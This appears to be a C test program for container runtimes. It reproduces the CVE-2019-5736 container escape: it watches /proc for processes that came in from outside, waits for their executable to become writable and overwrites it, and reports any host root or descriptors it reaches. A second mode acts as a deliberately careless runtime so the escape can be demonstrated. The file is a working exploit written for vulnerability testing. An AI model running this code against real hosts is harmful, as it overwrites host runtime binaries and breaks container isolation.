/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * overwrite SECONDS
 * overwrite enter PID
 *
 * The first is the attack of CVE-2019-5736 from inside a container: looks for processes that come in from outside and
 * opens what they execute for writing, at once and later through a descriptor it keeps; also their root, their working folder and
 * their descriptors.  Prints a line for each thing that it should not have got.
 *
 * The second is a careless runtime, to show that the first works: it enters the pid namespace of PID with the program that it was
 * started from, and stays for a moment.  (Start it from a copy: the copy is what gets overwritten.)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static struct stat own_root;

/* A program that is not in our root and that we can write to. */
static void try_exe(const char *pid)
{
	char path[64], link[4096], by_fd[64];
	struct stat st, inside;
	int held, fd;
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, link, sizeof(link) - 1);
	held = open(path, O_PATH | O_CLOEXEC);
	if (held < 0 || n < 0)
		return;
	link[n] = 0;
	if (fstat(held, &st) || (!stat(link, &inside) && inside.st_ino == st.st_ino && inside.st_dev == st.st_dev)) {
		close(held);
		return;
	}
	snprintf(by_fd, sizeof(by_fd), "/proc/self/fd/%d", held);
	/* As long as it runs the answer is ETXTBSY; the moment it ends is ours.  A sealed file says EPERM, for good. */
	for (int i = 0; i < 3000; i++) {
		fd = open(by_fd, O_WRONLY | O_CLOEXEC);
		if (fd < 0 && errno == ETXTBSY) {
			usleep(100);
			continue;
		}
		if (fd >= 0) {
			if (write(fd, "#!/bin/sh\n", 10) == 10)
				printf("overwrote %s\n", link);
			else if (errno != EPERM)
				printf("opened %s: %s\n", link, strerror(errno));
			close(fd);
		}
		break;
	}
	close(held);
}

static void try_folder(const char *pid, const char *name)
{
	char path[64];
	struct stat st;

	snprintf(path, sizeof(path), "/proc/%s/%s/.", pid, name);
	if (!stat(path, &st) && st.st_dev != own_root.st_dev && !strcmp(name, "root"))
		printf("reached the %s of process %s\n", name, pid);
}

static void try_fds(const char *pid)
{
	char path[300], link[4096];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		ssize_t n;

		if (entry->d_name[0] == '.' || atoi(entry->d_name) < 3)
			continue;
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, entry->d_name);
		n = readlink(path, link, sizeof(link) - 1);
		if (n > 0) {
			link[n] = 0;
			printf("sees descriptor %s of process %s: %s\n", entry->d_name, pid, link);
		}
	}
	if (dir)
		closedir(dir);
}

static int enter(const char *pid)
{
	int pidfd = syscall(SYS_pidfd_open, atoi(pid), 0);
	pid_t child;

	if (pidfd < 0 || setns(pidfd, CLONE_NEWPID)) {
		perror(pid);
		return 1;
	}
	child = fork();
	if (!child) {
		usleep(100000);
		_exit(0);
	}
	return child < 0 || waitpid(child, NULL, 0) < 0;
}

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);
	pid_t self = getpid();

	if (argc == 3 && !strcmp(argv[1], "enter"))
		return enter(argv[2]);
	stat("/", &own_root);
	puts("ready");
	fflush(stdout);
	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);

			if (pid <= 0 || pid == self)
				continue;
			try_exe(entry->d_name);
			try_fds(entry->d_name);
			try_folder(entry->d_name, "root");
		}
		if (proc)
			closedir(proc);
		fflush(stdout);
	}
	return 0;
}
